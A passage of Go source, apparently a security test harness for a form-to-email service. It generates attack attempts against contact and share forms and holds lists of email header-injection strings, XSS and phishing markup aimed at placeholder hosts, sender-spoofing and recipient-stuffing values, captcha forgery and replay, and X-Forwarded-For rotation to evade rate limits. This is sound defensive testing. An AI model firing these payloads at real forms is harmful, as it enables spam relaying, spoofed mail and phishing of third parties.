package attack

import (
	"bytes"
	"context"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"time"

	"github.com/formguard/formguard/guard/captcha"
)

// Enc is a request body encoding.
type Enc int

// Encodings the service accepts.
const (
	EncForm Enc = iota
	EncMultipart
	EncJSON
)

func (x Enc) String() string { return [...]string{"urlencoded", "multipart", "json"}[x] }

// Encode renders kvs in enc.
func Encode(enc Enc, kvs []KV) ([]byte, string) {
	switch enc {
	case EncMultipart:
		return Multipart(kvs...)
	case EncJSON:
		return JSONObject(kvs...), CTJSON
	default:
		return URLEncoded(kvs...), CTForm
	}
}

// encs are the encodings to send a variant in: all three, or in short
// mode one picked by the seed.
func (e *Env) encs() []Enc {
	if e.Opt.Short {
		return []Enc{Enc(e.Intn(3))}
	}
	return []Enc{EncForm, EncMultipart, EncJSON}
}

// viaProxy makes r come from a fresh IPv4 client through the trusted
// proxy, and returns the X-Forwarded-For line.
func (e *Env) viaProxy(r *Request) []string {
	ip := e.FreshIPv4()
	r.Client = ip
	return []string{ip}
}

// Post builds an attempt for r from a fresh proxied client unless the
// caller sets Peer/XFF afterwards. A body containing AltchaPlaceholder
// gets a proof-of-work for r.Form solved as the same client.
func (e *Env) Post(r *Request, enc Enc, kvs ...KV) *Attempt {
	body, ct := Encode(enc, kvs)
	a := &Attempt{Req: r, Body: body, ContentType: ct, XFF: e.viaProxy(r)}
	if bytes.Contains(body, []byte(AltchaPlaceholder)) {
		a.PoW = r.Form
	}
	return a
}

// visitor returns a unique, valid visitor address for r.
func visitor(r *Request) string { return fmt.Sprintf("visitor%d@visitor.test", r.ID) }

// LegitContact is a genuine contact post.
func (e *Env) LegitContact(class string, enc Enc) *Attempt {
	r := e.NewRequest(class, ContactForm)
	r.Legit = true
	r.Sender = visitor(r)
	return e.Post(r, enc,
		KV{"name", fmt.Sprintf("Ada Visitor %d", r.ID)},
		KV{"email", r.Sender},
		KV{"subject", "A question about your opening hours"},
		KV{"message", "Hello, are you open on Sundays? Thanks. " + r.Marker})
}

// LegitShare is a genuine share post to n fresh friends.
func (e *Env) LegitShare(class string, enc Enc, n int) *Attempt {
	r := e.NewRequest(class, ShareForm)
	r.Legit = true
	r.Sender = visitor(r)
	kvs := []KV{{"name", "Grace"}, {"email", r.Sender}}
	var to []string
	for i := 0; i < n; i++ {
		to = append(to, fmt.Sprintf("friend%d.%d@recipient.test", r.ID, i))
	}
	r.Allowed = to
	if enc == EncForm || enc == EncMultipart {
		for _, x := range to {
			kvs = append(kvs, KV{"to", x})
		}
	} else {
		kvs = append(kvs, KV{"to", strings.Join(to, ", ")})
	}
	kvs = append(kvs, KV{"url", fmt.Sprintf("%s/articles/%d", e.Cfg.Origin(), r.ID)},
		KV{"message", "Thought you would like this one. " + r.Marker},
		KV{captcha.PoWField, AltchaPlaceholder})
	return e.Post(r, enc, kvs...)
}

// LegitFeedback is a genuine post to the proof-of-work contact form.
func (e *Env) LegitFeedback(class string, enc Enc) *Attempt {
	r := e.NewRequest(class, FeedbackForm)
	r.Legit = true
	r.Sender = visitor(r)
	return e.Post(r, enc,
		KV{"name", "Linus"}, KV{"email", r.Sender},
		KV{"message", "Your site works well. " + r.Marker},
		KV{captcha.PoWField, AltchaPlaceholder})
}

// Classes are the attack classes, in the order they run.
func Classes() []Class {
	return []Class{
		{"legit", genLegit},
		{"sender-spoof", genSenderSpoof},
		{"recipient-stuffing", genRecipientStuffing},
		{"header-injection", genHeaderInjection},
		{"markup-body", genMarkup},
		{"captcha", genCaptcha},
		{"form-token", genFormToken},
		{"rate-limit", genRateLimit},
		{"malformed", genMalformed},
		{"slow-client", genSlow},
		{"redirect", genRedirect},
		{"method-confusion", genMethod},
		{"honeypot", genHoneypot},
	}
}

func genLegit(e *Env) []Batch {
	var b Batch
	reps := 2
	if !e.Opt.Short {
		reps = 6
	}
	for i := 0; i < reps; i++ {
		for _, enc := range []Enc{EncForm, EncMultipart, EncJSON} {
			b = append(b, e.LegitContact("legit", enc), e.LegitShare("legit", enc, 1+(i+int(enc))%ShareMax), e.LegitFeedback("legit", enc))
		}
	}
	// An IPv6 visitor through the proxy.
	a := e.LegitContact("legit", EncForm)
	p, addr := e.FreshIPv6Net()
	a.Req.Client, a.XFF = p, []string{addr(1)}
	b = append(b, a)
	e.Shuffle(b)
	return []Batch{b}
}

// contactBase is a valid contact post's fields for r, minus exclude.
func contactBase(r *Request, exclude ...string) []KV {
	kvs := []KV{{"name", "Mallory"}, {"email", visitor(r)}, {"subject", "Hello"}, {"message", "Please read. " + r.Marker}}
	var out []KV
	for _, kv := range kvs {
		skip := false
		for _, x := range exclude {
			skip = skip || kv.K == x
		}
		if !skip {
			out = append(out, kv)
		}
	}
	return out
}

func genSenderSpoof(e *Env) []Batch {
	const victim = "ceo@bank.example"
	var b Batch
	extraFields := []string{"from", "From", "FROM", "sender", "Sender", "reply-to", "reply_to", "replyto", "_replyto",
		"return-path", "return_path", "envelope_from", "mail_from", "mailfrom", "x-sender", "from_email", "fromEmail",
		"email_from", "headers", "header", "h:From", "smtp_from", "_from", "resent-from", "errors-to"}
	for _, f := range extraFields {
		for _, enc := range e.encs() {
			r := e.NewRequest("sender-spoof", ContactForm)
			r.Sender = visitor(r)
			r.Note = fmt.Sprintf("%s %s=%q", enc, f, victim)
			b = append(b, e.Post(r, enc, append(contactBase(r), KV{f, victim})...))
		}
	}
	// The address fields themselves carrying a spoof.
	for _, v := range []struct{ field, value string }{
		{"email", victim}, // allowed: the visitor's address only reaches Reply-To
		{"email", "Boss <" + victim + ">"},
		{"email", victim + ", other@bank.example"},
		{"email", "no-reply@example.test"},
		{"email", "\"no-reply@example.test\" <" + victim + ">"},
		{"email", victim + "@example.test"},
		{"name", victim},
		{"name", "\"CEO\" <" + victim + ">"},
		{"name", "Support Team <no-reply@example.test>"},
		{"name", "=?UTF-8?B?Q0VPIDxjZW9AYmFuay5leGFtcGxlPg==?="},
	} {
		for _, enc := range e.encs() {
			r := e.NewRequest("sender-spoof", ContactForm)
			r.Sender = visitor(r)
			r.Note = fmt.Sprintf("%s %s=%q", enc, v.field, v.value)
			if v.field == "email" {
				r.Sender = v.value
			}
			kvs := contactBase(r, v.field)
			kvs = append(kvs, KV{v.field, v.value})
			b = append(b, e.Post(r, enc, kvs...))
		}
	}
	// JSON shapes encoding/json would never write.
	for _, raw := range []string{
		`{"name":"M","email":"%s","email":"` + victim + `","message":"x %s"}`,
		`{"name":"M","email":["%s","` + victim + `"],"message":"x %s"}`,
		`{"name":"M","email":"%s","message":"x %s","headers":{"From":"` + victim + `"}}`,
		`{"name":"M","email":"%s","message":"x %s","From":"` + victim + `"}`,
		`{"name":"M","email":"%s","message":"x %s","\u0066rom":"` + victim + `"}`,
	} {
		r := e.NewRequest("sender-spoof", ContactForm)
		r.Sender = visitor(r)
		b = append(b, &Attempt{Req: r, ContentType: CTJSON, Body: []byte(fmt.Sprintf(raw, r.Sender, r.Marker)), XFF: e.viaProxy(r)})
	}
	e.Shuffle(b)
	return []Batch{b}
}

func shareBase(r *Request, e *Env, exclude ...string) []KV {
	kvs := []KV{{"name", "Mallory"}, {"email", visitor(r)},
		{"url", e.Cfg.Origin() + "/page"}, {"message", "Look. " + r.Marker}, {captcha.PoWField, AltchaPlaceholder}}
	var out []KV
	for _, kv := range kvs {
		skip := false
		for _, x := range exclude {
			skip = skip || kv.K == x
		}
		if !skip {
			out = append(out, kv)
		}
	}
	return out
}

func victims(r *Request, n int) []string {
	var v []string
	for i := 0; i < n; i++ {
		v = append(v, fmt.Sprintf("victim%d.%d@spam.test", r.ID, i))
	}
	return v
}

func genRecipientStuffing(e *Env) []Batch {
	var b Batch
	share := func(kvs func(r *Request) []KV, encs []Enc, allowed func(r *Request) []string) {
		for _, enc := range encs {
			r := e.NewRequest("recipient-stuffing", ShareForm)
			r.Sender = visitor(r)
			if allowed != nil {
				r.Allowed = allowed(r)
			}
			b = append(b, e.Post(r, enc, append(shareBase(r, e), kvs(r)...)...))
		}
	}
	// Over the cap, every way of listing them.
	for _, n := range []int{ShareMax + 1, 10, 50} {
		n := n
		share(func(r *Request) []KV {
			var kvs []KV
			for _, v := range victims(r, n) {
				kvs = append(kvs, KV{"to", v})
			}
			return kvs
		}, []Enc{EncForm, EncMultipart}, nil)
		for _, sep := range []string{",", ", ", ";", "; ", "\n", "\r\n", " ", "\t", "|"} {
			share(func(r *Request) []KV { return []KV{{"to", strings.Join(victims(r, n), sep)}} }, e.encs(), nil)
		}
	}
	// Separators that are not list separators, within the cap.
	for _, sep := range []string{";", "\n", "\r\n", "\r", "\x00", "%0a", "%2C", "\u2028", "\u0085"} {
		share(func(r *Request) []KV { return []KV{{"to", strings.Join(victims(r, 2), sep)}} }, e.encs(), nil)
	}
	// Address syntax that smuggles extra recipients.
	for _, f := range []func(r *Request) string{
		func(r *Request) string { v := victims(r, 1); return "Friend <" + v[0] + ">" },
		func(r *Request) string {
			v := victims(r, 2)
			return "undisclosed-recipients: " + v[0] + ", " + v[1] + ";"
		},
		func(r *Request) string { v := victims(r, 1); return "\"a@b.test, " + v[0] + "\" <" + v[0] + ">" },
		func(r *Request) string { v := victims(r, 1); return v[0] + " (comment)" },
		func(r *Request) string { v := victims(r, 1); return "<@relay.test:" + v[0] + ">" },
		func(r *Request) string { v := victims(r, 1); return v[0] + "%relay.test@spam.test" },
		func(r *Request) string { v := victims(r, 1); return "\"" + v[0] + "\"@spam.test" },
		func(r *Request) string { return "root@localhost" },
		func(r *Request) string { return "postmaster@[127.0.0.1]" },
	} {
		share(func(r *Request) []KV { return []KV{{"to", f(r)}} }, e.encs(), nil)
	}
	// The site's own address next to its IDN look-alike (Cyrillic а):
	// within the cap, so a share form may mail both, but only those.
	share(func(r *Request) []KV { return []KV{{"to", ContactTo + ", support@exаmple.test"}} }, e.encs(),
		func(r *Request) []string {
			return []string{ContactTo, "support@exаmple.test", "support@xn--exmple-4nf.test"}
		})
	// IDN look-alikes over the cap (refused), and one honest IDN within it
	// (may be delivered, in Unicode or punycode form).
	share(func(r *Request) []KV {
		return []KV{{"to", strings.Join([]string{"a@exаmple.test", "b@exаmple.test", "c@exаmple.test", "d@exаmple.test"}, ",")}}
	}, e.encs(), nil)
	share(func(r *Request) []KV { return []KV{{"to", fmt.Sprintf("freund%d@bücher.test", r.ID)}} }, e.encs(),
		func(r *Request) []string {
			return []string{fmt.Sprintf("freund%d@bücher.test", r.ID), fmt.Sprintf("freund%d@xn--bcher-kva.test", r.ID)}
		})
	// JSON arrays and duplicate keys.
	for _, shape := range []string{
		`"to":[%s]`,
		`"to":"%s","to":"%s","to":"%s","to":"%s"`,
		`"to":[%s],"to":"x@spam.test"`,
		`"to":{"a":"%s"}`,
		`"to":[[%s]]`,
		`"to":null,"to":"%s"`,
	} {
		r := e.NewRequest("recipient-stuffing", ShareForm)
		r.Sender = visitor(r)
		vs := victims(r, ShareMax+1)
		q := make([]string, len(vs))
		for i, v := range vs {
			q[i] = `"` + v + `"`
		}
		var toPart string
		switch strings.Count(shape, "%s") {
		case 1:
			toPart = fmt.Sprintf(shape, strings.Join(q, ","))
			if strings.HasPrefix(shape, `"to":null`) {
				toPart = fmt.Sprintf(shape, vs[0])
			}
		default:
			args := make([]any, 4)
			for i := range args {
				args[i] = vs[i]
			}
			toPart = fmt.Sprintf(shape, args...)
		}
		body := fmt.Sprintf(`{"name":"M","email":%q,"url":%q,"message":%q,"altcha":%q,%s}`,
			r.Sender, e.Cfg.Origin()+"/p", "x "+r.Marker, AltchaPlaceholder, toPart)
		b = append(b, &Attempt{Req: r, ContentType: CTJSON, Body: []byte(body), XFF: e.viaProxy(r), PoW: ShareForm})
	}
	// Contact forms take no recipients at all, whatever the key.
	for _, f := range []string{"to", "To", "recipient", "recipients", "cc", "bcc", "Bcc", "department", "to[]", "_to"} {
		for _, enc := range e.encs() {
			r := e.NewRequest("recipient-stuffing", ContactForm)
			r.Sender = visitor(r)
			b = append(b, e.Post(r, enc, append(contactBase(r), KV{f, "victim@spam.test"})...))
		}
	}
	e.Shuffle(b)
	return []Batch{b}
}

// injections are single-line values that try to start a new header.
var injections = []string{
	"x\r\nBcc: injected@spam.test",
	"x\rBcc: injected@spam.test",
	"x\nBcc: injected@spam.test",
	"x\r\n\r\ninjected body",
	"x%0d%0aBcc: injected@spam.test",
	"x%0ABcc: injected@spam.test",
	"x%250d%250aBcc: injected@spam.test",
	"=?UTF-8?Q?x=0D=0ABcc:_injected@spam.test?=",
	"=?UTF-8?B?eA0KQmNjOiBpbmplY3RlZEBzcGFtLnRlc3Q=?=",
	"x\u2028Bcc: injected@spam.test",
	"x\u2029Bcc: injected@spam.test",
	"x\u0085Bcc: injected@spam.test",
	"x\x00Bcc: injected@spam.test",
	"x\x0bBcc: injected@spam.test",
	"x\x0cBcc: injected@spam.test",
	"x\r\n Bcc: injected@spam.test",
	"x\r\n\tX-Injected: yes",
	"x&#13;&#10;Bcc: injected@spam.test",
	"x\\r\\nBcc: injected@spam.test",
}

func genHeaderInjection(e *Env) []Batch {
	var b Batch
	for _, inj := range injections {
		// Contact: name, email, subject.
		for _, field := range []string{"name", "email", "subject"} {
			for _, enc := range e.encs() {
				r := e.NewRequest("header-injection", ContactForm)
				r.Sender = visitor(r)
				r.Note = fmt.Sprintf("%s %s %q", enc, field, inj)
				v := inj
				if field == "email" {
					v = "visitor" + fmt.Sprint(r.ID) + "@visitor.test" + strings.TrimPrefix(inj, "x")
					r.Sender = v
				}
				kvs := append(contactBase(r, field), KV{field, v})
				b = append(b, e.Post(r, enc, kvs...))
			}
		}
		// Share: to, name, email, url.
		for _, field := range []string{"to", "name", "email", "url"} {
			enc := e.encs()[0]
			r := e.NewRequest("header-injection", ShareForm)
			r.Sender = visitor(r)
			r.Note = fmt.Sprintf("%s %s %q", enc, field, inj)
			friend := fmt.Sprintf("friend%d@recipient.test", r.ID)
			kvs := shareBase(r, e, field)
			switch field {
			case "to":
				kvs = append(kvs, KV{"to", friend + strings.TrimPrefix(inj, "x")})
			case "email":
				r.Sender = visitor(r) + strings.TrimPrefix(inj, "x")
				kvs = append(kvs, KV{"to", friend}, KV{"email", r.Sender})
				r.Allowed = []string{friend}
			case "url":
				kvs = append(kvs, KV{"to", friend}, KV{"url", e.Cfg.Origin() + "/p" + strings.TrimPrefix(inj, "x")})
				r.Allowed = []string{friend}
			default:
				kvs = append(kvs, KV{"to", friend}, KV{field, inj})
				r.Allowed = []string{friend}
			}
			b = append(b, e.Post(r, enc, kvs...))
		}
	}
	// Raw header injection at the HTTP level: a request whose own header
	// value carries an encoded line break must not reach mail.
	e.Shuffle(b)
	return []Batch{b}
}

// markups are visitor texts that must arrive escaped in HTML mail.
var markups = []string{
	"<script>alert(1)</script>",
	"<img src=x onerror=alert(1)>",
	"</pre><script>alert(2)</script>",
	"</blockquote><iframe src=\"https://evil.example/\"></iframe>",
	"<a href=\"javascript:alert(3)\">click</a>",
	"<svg onload=alert(4)>",
	"<style>body{display:none}</style>",
	"\"><script>alert(5)</script>",
	"<b onmouseover=alert(6)>hover</b>",
	"<!--<script>alert(7)</script>-->",
	"<form action=https://evil.example/><input name=pw></form>",
	"<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
}

func genMarkup(e *Env) []Batch {
	var b Batch
	for _, m := range markups {
		for _, field := range []string{"message", "name", "subject"} {
			enc := e.encs()[0]
			r := e.NewRequest("markup-body", ContactForm)
			r.Sender = visitor(r)
			r.Markup = []string{m}
			kvs := contactBase(r, field)
			v := m
			if field == "message" {
				v = m + " " + r.Marker
			}
			b = append(b, e.Post(r, enc, append(kvs, KV{field, v})...))
		}
		// The share note and name.
		for _, field := range []string{"message", "name"} {
			enc := e.encs()[0]
			r := e.NewRequest("markup-body", ShareForm)
			r.Sender = visitor(r)
			r.Markup = []string{m}
			friend := fmt.Sprintf("friend%d@recipient.test", r.ID)
			r.Allowed = []string{friend}
			v := m
			if field == "message" {
				v = m + " " + r.Marker
			}
			kvs := append(shareBase(r, e, field), KV{"to", friend}, KV{field, v})
			b = append(b, e.Post(r, enc, kvs...))
		}
	}
	// Link stuffing.
	for _, n := range []int{4, 20, 200} {
		r := e.NewRequest("markup-body", ContactForm)
		r.Sender = visitor(r)
		var sb strings.Builder
		for i := 0; i < n; i++ {
			fmt.Fprintf(&sb, "https://pills%d.spam.test/buy ", i)
		}
		b = append(b, e.Post(r, e.encs()[0], append(contactBase(r, "message"), KV{"message", sb.String() + r.Marker})...))
	}
	for _, note := range []string{"see https://spam.test/x", "www.spam.test", "spam.test/buy", "hxxps://spam[.]test", "<a href=https://spam.test>x</a>"} {
		r := e.NewRequest("markup-body", ShareForm)
		r.Sender = visitor(r)
		friend := fmt.Sprintf("friend%d@recipient.test", r.ID)
		r.Allowed = []string{friend}
		r.Markup = []string{"<a href=https://spam.test>"}
		b = append(b, e.Post(r, e.encs()[0], append(shareBase(r, e, "message"), KV{"to", friend}, KV{"message", note + " " + r.Marker})...))
	}
	e.Shuffle(b)
	return []Batch{b}
}

// powKey is the proof-of-work HMAC key the service derives from
// FORMGUARD_CAPTCHA_SECRET (server.DeriveKey(secret, "pow")). The harness
// mints stale challenges with it; a fresh control challenge minted the same
// way must be accepted, which proves the stale ones are refused for being
// stale rather than for a wrong key.
func (e *Env) powMint(form string, issued time.Time) (captcha.Challenge, error) {
	key := deriveKey([]byte(e.Svc.Secret), "pow")
	p, err := captcha.NewPoW(captcha.PoWConfig{Keys: [][]byte{key}, MaxNumber: PoWMaxNumber, Expiry: time.Minute,
		Now: func() time.Time { return issued }})
	if err != nil {
		return captcha.Challenge{}, err
	}
	return p.Challenge(form, "")
}

func genCaptcha(e *Env) []Batch {
	var first, second Batch
	mk := func(form string, legit bool, tok func(ctx context.Context, c *Client, a *Attempt) (string, error)) *Attempt {
		r := e.NewRequest("captcha", form)
		r.Sender = visitor(r)
		r.Legit = legit
		var kvs []KV
		if form == ShareForm {
			friend := fmt.Sprintf("friend%d@recipient.test", r.ID)
			r.Allowed = []string{friend}
			kvs = append(shareBase(r, e), KV{"to", friend})
		} else {
			kvs = []KV{{"name", "M"}, {"email", r.Sender}, {"message", "hi " + r.Marker}, {captcha.PoWField, AltchaPlaceholder}}
		}
		a := e.Post(r, e.encs()[0], kvs...)
		a.Token = tok
		if !legit {
			// A bad token must be refused outright: its mail would
			// look legitimate, so the answer is what is judged.
			r.Allowed = nil
			a.Check = mustRefuse("captcha_bypass")
		}
		return a
	}
	fixed := func(s string) func(context.Context, *Client, *Attempt) (string, error) {
		return func(context.Context, *Client, *Attempt) (string, error) { return s, nil }
	}
	solved := func(mut func(p *captcha.PoWPayload)) func(ctx context.Context, c *Client, a *Attempt) (string, error) {
		return func(ctx context.Context, c *Client, a *Attempt) (string, error) {
			ch, err := c.Challenge(ctx, a.Req.Form, a.Peer, a.XFF)
			if err != nil {
				return "", err
			}
			tok, err := Solve(ch)
			if err != nil {
				return "", err
			}
			p, _ := captcha.ParsePoWPayload(tok)
			mut(&p)
			return EncodePayload(p), nil
		}
	}
	minted := func(age time.Duration) func(context.Context, *Client, *Attempt) (string, error) {
		return func(context.Context, *Client, *Attempt) (string, error) {
			ch, err := e.powMint(ShareForm, time.Now().Add(-age))
			if err != nil {
				return "", err
			}
			return Solve(ch)
		}
	}
	// Missing, empty and garbage.
	for _, form := range []string{ShareForm, FeedbackForm} {
		r := e.NewRequest("captcha", form)
		r.Sender = visitor(r)
		friend := fmt.Sprintf("friend%d@recipient.test", r.ID)
		kvs := []KV{{"name", "M"}, {"email", r.Sender}, {"message", "hi " + r.Marker}}
		if form == ShareForm {
			kvs = append(kvs, KV{"to", friend}, KV{"url", e.Cfg.Origin() + "/p"})
		}
		a := e.Post(r, e.encs()[0], kvs...)
		a.Check = mustRefuse("captcha_bypass")
		first = append(first, a)
		for _, g := range []string{"", "not base64!", "e30=", "bnVsbA==", strings.Repeat("A", 8000),
			EncodePayload(captcha.PoWPayload{Algorithm: "SHA-256", Test: true}),
			EncodePayload(captcha.PoWPayload{Algorithm: "SHA-1", Challenge: "00", Salt: "x", Signature: "00"})} {
			first = append(first, mk(form, false, fixed(g)))
		}
	}
	// Forged: a well-formed challenge signed with the wrong key.
	first = append(first, mk(ShareForm, false, func(context.Context, *Client, *Attempt) (string, error) {
		p, err := captcha.NewPoW(captcha.PoWConfig{Keys: [][]byte{bytes.Repeat([]byte("k"), 32)}, MaxNumber: PoWMaxNumber})
		if err != nil {
			return "", err
		}
		ch, err := p.Challenge(ShareForm, "")
		if err != nil {
			return "", err
		}
		return Solve(ch)
	}))
	// Tampered solutions of real challenges.
	first = append(first,
		mk(ShareForm, false, solved(func(p *captcha.PoWPayload) { p.Number++ })),
		mk(ShareForm, false, solved(func(p *captcha.PoWPayload) { p.Signature = strings.Repeat("0", 64) })),
		mk(ShareForm, false, solved(func(p *captcha.PoWPayload) { p.Salt = strings.Replace(p.Salt, "max=", "max=9", 1) })),
		mk(ShareForm, false, solved(func(p *captcha.PoWPayload) { p.Test = true })),
		mk(ShareForm, false, solved(func(p *captcha.PoWPayload) { p.Number = -1 })),
	)
	// A challenge for one form spent on another.
	first = append(first, mk(FeedbackForm, false, func(ctx context.Context, c *Client, a *Attempt) (string, error) {
		return c.SolvePoW(ctx, ShareForm, a.Peer, a.XFF)
	}))
	// Stale: validly signed, expired. The control, minted the same way
	// but fresh, must be delivered.
	first = append(first, mk(ShareForm, true, minted(0)), mk(ShareForm, false, minted(2*time.Minute)), mk(ShareForm, false, minted(25*time.Hour)))
	// A form token on a form that takes none (contact): refused as an
	// unknown field. The form-token class attacks the forms that use them.
	{
		r := e.NewRequest("captcha", ContactForm)
		r.Sender = visitor(r)
		a := e.Post(r, e.encs()[0], append(contactBase(r), KV{captcha.FormTokenField, "AQAAAZNfakefakefakefakefakefakefakefakefakefakefakefakefakefakefake"})...)
		a.Check = mustRefuse("captcha_bypass")
		first = append(first, a)
	}
	// Replays: a legitimate post, then its solution again, sequentially
	// and by five clients at once.
	var tokMu = make(chan string, 1)
	orig := mk(ShareForm, true, func(ctx context.Context, c *Client, a *Attempt) (string, error) {
		t, err := c.SolvePoW(ctx, ShareForm, a.Peer, a.XFF)
		if err == nil {
			tokMu <- t
		}
		return t, err
	})
	first = append(first, orig)
	var saved string
	replay := func(ctx context.Context, _ *Client, _ *Attempt) (string, error) {
		if saved == "" {
			select {
			case saved = <-tokMu:
			default:
				return "", fmt.Errorf("replay: no token captured")
			}
		}
		return saved, nil
	}
	for i := 0; i < 6; i++ {
		a := mk(ShareForm, false, replay)
		second = append(second, a)
	}
	// The sequential replay runs alone first, so saved is set before the
	// concurrent ones read it.
	return []Batch{first, second[:1], second[1:]}
}

func genRateLimit(e *Env) []Batch {
	var out []Batch
	n := 12
	if !e.Opt.Short {
		n = 30
	}
	// 1. Rotating X-Forwarded-For from an untrusted peer: one client.
	{
		var b Batch
		peer := e.FreshPeer()
		for i := 0; i < n; i++ {
			r := e.NewRequest("rate-limit", ContactForm)
			r.Sender = visitor(r)
			a := e.Post(r, EncForm, contactBase(r)...)
			a.Peer, a.XFF, r.Client = peer, []string{e.FreshIPv4()}, peer
			b = append(b, a)
		}
		out = append(out, b)
	}
	// 2. Rotating addresses inside one IPv6 /64 through the proxy.
	{
		var b Batch
		prefix, addr := e.FreshIPv6Net()
		for i := 0; i < n; i++ {
			r := e.NewRequest("rate-limit", ContactForm)
			r.Sender = visitor(r)
			a := e.Post(r, EncForm, contactBase(r)...)
			a.XFF, r.Client = []string{addr(uint16(i + 1))}, prefix
			b = append(b, a)
		}
		out = append(out, b)
	}
	// 3. Forged leftmost hops through the proxy: the client is the
	// rightmost untrusted hop whatever is written before it.
	{
		var b Batch
		ip := e.FreshIPv4()
		for i := 0; i < n; i++ {
			r := e.NewRequest("rate-limit", ContactForm)
			r.Sender = visitor(r)
			a := e.Post(r, EncForm, contactBase(r)...)
			a.XFF, r.Client = []string{e.FreshIPv4() + ", " + e.FreshIPv4(), ip}, ip
			if i%2 == 0 {
				a.XFF = []string{e.FreshIPv4() + "," + ip}
			}
			b = append(b, a)
		}
		out = append(out, b)
	}
	// 4. Rotating Reply-To from one client.
	{
		var b Batch
		ip := e.FreshIPv4()
		for i := 0; i < n; i++ {
			r := e.NewRequest("rate-limit", ContactForm)
			r.Sender = visitor(r)
			a := e.Post(r, EncJSON, contactBase(r)...)
			a.XFF, r.Client = []string{ip}, ip
			b = append(b, a)
		}
		out = append(out, b)
	}
	// 5. One Reply-To from rotating clients.
	{
		var b Batch
		for i := 0; i < n; i++ {
			r := e.NewRequest("rate-limit", ContactForm)
			r.Sender = fmt.Sprintf("same%d@visitor.test", e.Opt.Seed)
			kvs := append(contactBase(r, "email"), KV{"email", r.Sender})
			b = append(b, e.Post(r, EncForm, kvs...))
		}
		out = append(out, b)
	}
	// 6. Rotating recipients from one client (share).
	{
		var b Batch
		ip := e.FreshIPv4()
		for i := 0; i < n; i++ {
			r := e.NewRequest("rate-limit", ShareForm)
			r.Sender = visitor(r)
			friend := fmt.Sprintf("friend%d@recipient.test", r.ID)
			r.Allowed = []string{friend}
			a := e.Post(r, EncForm, append(shareBase(r, e), KV{"to", friend})...)
			a.XFF, r.Client = []string{ip}, ip
			b = append(b, a)
		}
		out = append(out, b)
	}
	// 7. One recipient from rotating clients and senders (share).
	{
		var b Batch
		target := fmt.Sprintf("target%d@recipient.test", e.Opt.Seed)
		for i := 0; i < n; i++ {
			r := e.NewRequest("rate-limit", ShareForm)
			r.Sender = visitor(r)
			r.Allowed = []string{target}
			b = append(b, e.Post(r, EncForm, append(shareBase(r, e), KV{"to", target})...))
		}
		out = append(out, b)
	}
	// 8. Malformed forwarding hops from the trusted proxy fail closed.
	{
		var b Batch
		for _, hop := range []string{"not-an-ip", "198.18.0.1:80:90", "unknown", "", "::ffff:zz", "198.18.0.1, garbage"} {
			r := e.NewRequest("rate-limit", ContactForm)
			r.Sender = visitor(r)
			a := e.Post(r, EncForm, contactBase(r)...)
			a.XFF = []string{hop}
			r.Client = "malformed:" + hop
			if hop == "" {
				a.XFF = nil
				r.Client = "127.0.0.1"
			}
			b = append(b, a)
		}
		out = append(out, b)
	}
	return out
}

func genMalformed(e *Env) []Batch {
	var b Batch
	raw := func(ct string, body []byte, withMarker bool) {
		r := e.NewRequest("malformed", ContactForm)
		r.Sender = "a@v.test"
		if withMarker {
			body = bytes.ReplaceAll(body, []byte("MARKER"), []byte(r.Marker))
		}
		r.Note = fmt.Sprintf("%s %.60q", ct, body)
		b = append(b, &Attempt{Req: r, ContentType: ct, Body: body, XFF: e.viaProxy(r)})
	}
	// Oversized.
	big := strings.Repeat("A", 70<<10)
	raw(CTForm, URLEncoded(KV{"name", "M"}, KV{"email", "a@v.test"}, KV{"message", "MARKER " + big}), true)
	raw(CTJSON, JSONObject(KV{"name", "M"}, KV{"email", "a@v.test"}, KV{"message", "MARKER " + big}), true)
	mp, ct := Multipart(KV{"name", "M"}, KV{"message", "MARKER " + big})
	raw(ct, mp, true)
	raw(CTForm, URLEncoded(KV{"name", strings.Repeat("N", 5000)}, KV{"email", "a@v.test"}, KV{"message", "MARKER"}), true)
	raw(CTForm, URLEncoded(KV{"name", "M"}, KV{"email", "a@v.test"}, KV{"subject", strings.Repeat("S", 5000)}, KV{"message", "MARKER"}), true)
	raw(CTForm, URLEncoded(KV{"name", "M"}, KV{"email", strings.Repeat("a", 300) + "@v.test"}, KV{"message", "MARKER"}), true)
	raw(CTForm, URLEncoded(KV{"name", "M"}, KV{"email", "a@v.test"}, KV{"message", "MARKER " + strings.Repeat("word ", 2000)}), true)
	// Many fields.
	for _, n := range []int{33, 1000, 10000} {
		kvs := []KV{{"name", "M"}, {"email", "a@v.test"}, {"message", "MARKER"}}
		for i := 0; i < n; i++ {
			kvs = append(kvs, KV{fmt.Sprintf("f%d", i), "v"})
		}
		raw(CTForm, URLEncoded(kvs...), true)
	}
	{
		kvs := []KV{{"name", "M"}, {"email", "a@v.test"}, {"message", "MARKER"}}
		for i := 0; i < 10000; i++ {
			kvs = append(kvs, KV{"message", "v"})
		}
		raw(CTForm, URLEncoded(kvs...), true)
	}
	// JSON nesting and shapes.
	raw(CTJSON, []byte(`{"name":"M","message":"MARKER","x":`+strings.Repeat("[", 100000)+strings.Repeat("]", 100000)+`}`), true)
	raw(CTJSON, []byte(strings.Repeat(`{"a":`, 10000)+`1`+strings.Repeat(`}`, 10000)), false)
	raw(CTJSON, []byte(`{"name":"M","email":"a@v.test","message":"MARKER","meta":{"a":1}}`), true)
	raw(CTJSON, []byte(`["name","M","message","MARKER"]`), true)
	raw(CTJSON, []byte(`{"name":"M","email":"a@v.test","message":"MARKER"`), true)
	raw(CTJSON, []byte(`{"name":"M","email":"a@v.test","message":"MARKER"} {"to":"x@spam.test"}`), true)
	raw(CTJSON, []byte(`{"name":1e999999,"email":"a@v.test","message":"MARKER"}`), true)
	raw(CTJSON, []byte("\xef\xbb\xbf{\"name\":\"M\",\"email\":\"a@v.test\",\"message\":\"MARKER\"}"), true)
	raw(CTJSON, []byte(`{"name":"M","email":"a@v.test","message":"MARKER \ud800"}`), true)
	// Invalid UTF-8.
	raw(CTForm, []byte("name=M%ff%fe&email=a%40v.test&message=MARKER"), true)
	raw(CTForm, []byte("name=M\xff\xfe&email=a%40v.test&message=MARKER"), true)
	raw(CTJSON, []byte("{\"name\":\"M\xc3\x28\",\"email\":\"a@v.test\",\"message\":\"MARKER\"}"), true)
	raw(CTForm, []byte("name=M%c0%af&email=a%40v.test&message=MARKER"), true)
	raw(CTForm, []byte("name=M%ed%a0%80&email=a%40v.test&message=MARKER"), true)
	// Broken urlencoding and multipart.
	raw(CTForm, []byte("name=%zz&email=a%40v.test&message=MARKER"), true)
